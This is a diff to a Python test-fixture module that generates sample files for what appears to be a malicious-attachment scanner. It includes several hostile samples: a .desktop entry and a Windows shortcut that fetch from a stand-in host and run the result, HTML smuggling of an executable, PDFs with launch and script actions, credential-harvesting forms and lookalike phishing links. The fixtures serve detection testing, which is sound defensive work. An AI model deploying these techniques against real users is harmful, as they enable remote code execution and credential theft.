@@ -1,6 +1,8 @@
 """PDF, pictures with codes, pages, and what else leads a reader on."""
 
+import base64
 import struct
+import zipfile
 from collections.abc import Callable
 from io import BytesIO
 from typing import Any
@@ -113,4 +115,135 @@ def build_shortcut(  # noqa: PLR0913 - what a shortcut may say
     return head.ljust(76, b"\0") + target + info + strings + block + bytes(4)
 
 
-FILES: dict[str, Callable[[], bytes]] = {}
+def zip_up(**files: bytes) -> bytes:
+    packed = BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in files.items():
+            archive.writestr(zipfile.ZipInfo(name.replace("_", ".")), content)
+    return packed.getvalue()
+
+
+def code(content: bytes) -> str:
+    return base64.b64encode(content).decode()
+
+
+def page(text: str) -> bytes:
+    return f"<html>{text}</html>".encode()
+
+
+def smuggle(content: bytes, name: str) -> bytes:
+    return (
+        f"<html><p>Loading ...</p><script>var d = atob('{code(content)}'); var u = new Uint8Array(d.length);"
+        "for (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);"
+        f"var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([u])); a.download = '{name}';"
+        "a.click()</script></html>"
+    ).encode()
+
+
+def draw_svg(inner: str, head: str = "") -> bytes:
+    return f'{head}<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90">{inner}</svg>'.encode()
+
+
+def hide_names() -> bytes:
+    plain = build_pdf(open_with(script("app.alert(1)")), object_stream_mode=pikepdf.ObjectStreamMode.disable)
+    return plain.replace(b"/JavaScript", b"/J#61vaScript")
+
+
+def add_revision(content: bytes) -> bytes:
+    """Add a revision that changes nothing, as programs do that sign or annotate."""
+    return content + b"\n" + content[content.rindex(b"startxref") :]
+
+
+def carry_flash(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])])
+
+
+def sign_in_page(action: str = "https://collect.example/next") -> bytes:
+    return f"<html><form action='{action}'><input name=mail><input type=password name=pw></form></html>".encode()
+
+
+PROGRAM = b"MZ".ljust(60, b"\0") + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(300)
+COMMAND = r"C:\Windows\System32\cmd.exe"
+EML = b"From: ann@woodwork.example\r\nSubject: Shelf\r\nDate: Tue, 14 Oct 2025 08:00:00 +0200\r\nMIME-Version: 1.0\r\n"
+BILL = "SPC\n0200\n1\nCH4431999123000889012\nS\nAnn Wood\nMill Street\n7\n8001\nZurich\nCH"
+OPENLY = pikepdf.Encryption(user="", owner="tulip")
+
+FILES: dict[str, Callable[[], bytes]] = {
+    "launch.pdf": lambda: build_pdf(open_with(act("Launch", F=String("cmd.exe")))),
+    "reaching.pdf": lambda: build_pdf(open_with(script("this.exportDataObject({cName: 'a.doc', nLaunch: 2});"))),
+    "spraying-form.pdf": lambda: build_pdf(form(field("a", AA=Dictionary(K=script("s = unescape('%u9090%u9090')"))))),
+    "alert.pdf": lambda: build_pdf(open_with(script("app.alert('Please update your reader.')"))),
+    "printing.pdf": lambda: build_pdf(open_with(script("this.print(true);"))),
+    "adding-form.pdf": lambda: build_pdf(form(field("sum", AA=Dictionary(C=script("event.value = a + b"))))),
+    "opening.pdf": lambda: build_pdf(open_with(act("URI", URI=String("https://collect.example/")))),
+    "share.pdf": lambda: build_pdf(open_with(act("GoToE", F=String(r"\\192.0.2.44\docs\plan.pdf")))),
+    "script-link.pdf": lambda: build_pdf(link("javascript:fetch('/')")),
+    "sign-in.pdf": lambda: build_pdf(form(field("E-mail"), field("Password"))),
+    "flash.pdf": lambda: build_pdf(carry_flash),
+    "linked.pdf": lambda: build_pdf(link("https://woodwork.example/shelves")),
+    "listed.pdf": lambda: build_pdf(link("https://login-verify.harvest-bank-secure.example/session/index.php")),
+    "lookalike.pdf": lambda: build_pdf(link("https://www.paypai.com/signin")),
+    "hosted.pdf": lambda: build_pdf(link("https://s3.us-east-1.amazonaws.com/box-full/index.html")),
+    "wrapped.pdf": lambda: build_pdf(link("https://www.google.com/url?q=https%3A%2F%2Fladders.example%2Fx")),
+    "tricky.pdf": lambda: build_pdf(link("https://paypal.com@ladders.example/")),
+    "order-form.pdf": lambda: build_pdf(form(field("Boards"), field("Length"))),
+    "bill-with-data.pdf": lambda: build_pdf(carry("factur-x.xml", b"<?xml version='1.0'?><bill xmlns='x'/>")),
+    "own-disk.pdf": lambda: build_pdf(link("file:///C:/Users/Ann/plan.docx")),
+    "coded-names.pdf": hide_names,
+    "without-mark.pdf": lambda: b"%PDF-1." + build_pdf(link("https://woodwork.example/"))[8:],
+    "torn.pdf": lambda: build_pdf(link("https://woodwork.example/"))[:-60],
+    "longer.pdf": lambda: build_pdf() + b"0123456789abcdef" * 200,
+    "plain.pdf": build_pdf,
+    "revised.pdf": lambda: add_revision(build_pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)),
+    "guarded.pdf": lambda: build_pdf(encryption=OPENLY),
+    "linear.pdf": lambda: build_pdf(link("https://woodwork.example/"), linearize=True),
+    "code-in.pdf": lambda: build_pdf(show(draw_code("https://collect.example/s?e=bm9yYUBtaWxsLXN0cmVldC5leGFtcGxl"))),
+    "code-lure.png": lambda: save_picture(draw_code("https://collect.example/session/8123")),
+    "code-addressed.png": lambda: save_picture(
+        draw_code("https://collect.example/?e=nora.lindqvist@mill-street.example")
+    ),
+    "code-own.jpg": lambda: save_picture(draw_code("https://woodwork.example/open-day"), "JPEG"),
+    "code-strange.gif": lambda: save_picture(draw_code("https://ladders.example/"), "GIF"),
+    "code-number.png": lambda: save_picture(draw_code("http://203.0.113.9/x")),
+    "code-wifi.png": lambda: save_picture(draw_code("WIFI:T:WPA;S:guests;P:long ladder;;")),
+    "code-bill.png": lambda: save_picture(draw_code(BILL)),
+    "shelf.png": lambda: save_picture(Image.radial_gradient("L").rotate(30)),
+    "smuggled-program.html": lambda: smuggle(PROGRAM, "plan.exe"),
+    "smuggled-archive.html": lambda: smuggle(zip_up(plan_txt=b"Bring the long ladder. " * 9), "plan.zip"),
+    "smuggled-document.html": lambda: page(f"<p>{code(build_pdf())}</p>"),
+    "smuggled-sign-in.html": lambda: page(f"<script>document.write(atob('{code(sign_in_page())}'))</script>"),
+    "smuggled-page.html": lambda: page(f"<iframe src='data:text/html;base64,{code(b'<html><script>go()</script>')}'>"),
+    "picture-in.html": lambda: page(f"<img src='data:image/png;base64,{code(save_picture(draw_code('x')))}'>"),
+    "envelope.html": lambda: page(f"<form><input type=hidden value='{code(bytes(range(1, 250)) * 9)}'></form>"),
+    "plain.html": lambda: b"<html><p>Bring the long ladder.</p><p>Ann</p></html>",
+    "leading.svg": lambda: draw_svg("<script>window.location.href = 'https://collect.example/?' + id</script>"),
+    "scripted.svg": lambda: draw_svg(
+        "<rect onclick='fold(this)' width='9' height='9'/><script>function fold(a) {}</script>"
+    ),
+    "spoken.svg": lambda: draw_svg("<text>&a;</text>", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "plan">]>'),
+    "drawing.svg": lambda: draw_svg("<rect width='9' height='9'/><text x='9'>on = off</text>"),
+    "linked.svg": lambda: draw_svg("<a href='https://woodwork.example/'><circle r='9'/></a>"),
+    "worded.svg": lambda: draw_svg(
+        "<style>text { fill: red }</style><foreignObject width='9'><p>Shelf</p></foreignObject>"
+    ),
+    "sign-in-inside.zip": lambda: zip_up(bill_html=sign_in_page()),
+    "builder-inside.zip": lambda: zip_up(bill_html=smuggle(b"Bring the long ladder. " * 9, "plan.txt")),
+    "jump-inside.zip": lambda: zip_up(
+        bill_html=b"<html><script>location.replace('https://collect.example/')</script></html>"
+    ),
+    "sign-in.eml": lambda: EML + b"Content-Type: text/html\r\n\r\n" + sign_in_page(),
+    "manual.zip": lambda: zip_up(
+        **{f"page{n}_html": b"<html><script>location = 'next.html'</script>" for n in range(20)}
+    ),
+    "page-inside.zip": lambda: zip_up(plan_html=b"<html><p>Bring the long ladder.</p></html>"),
+    "letter.eml": lambda: EML + b"\r\nsee https://woodwork.example/\r\n",
+    "command.lnk": lambda: build_shortcut(environment=COMMAND, arguments="/c curl https://collect.example/x.js"),
+    "padded.lnk": lambda: build_shortcut(environment=r"C:\plan.docx", arguments=" " * 200 + "x"),
+    "ladder.lnk": lambda: build_shortcut(environment=r"C:\Users\Ann\plan.docx", folder=r"C:\Users\Ann"),
+    "share.url": lambda: b"[InternetShortcut]\r\nURL=file://192.0.2.44/docs/plan.exe\r\n",
+    "web.url": lambda: b"[InternetShortcut]\r\nURL=https://woodwork.example/\r\n",
+    "command.desktop": lambda: (
+        b"[Desktop Entry]\nType=Application\nName=Plan\nExec=sh -c 'curl https://collect.example/x | sh'\n"
+    ),
+    "web.desktop": lambda: b"[Desktop Entry]\nType=Link\nName=Shelves\nURL=https://woodwork.example/\n",
+}
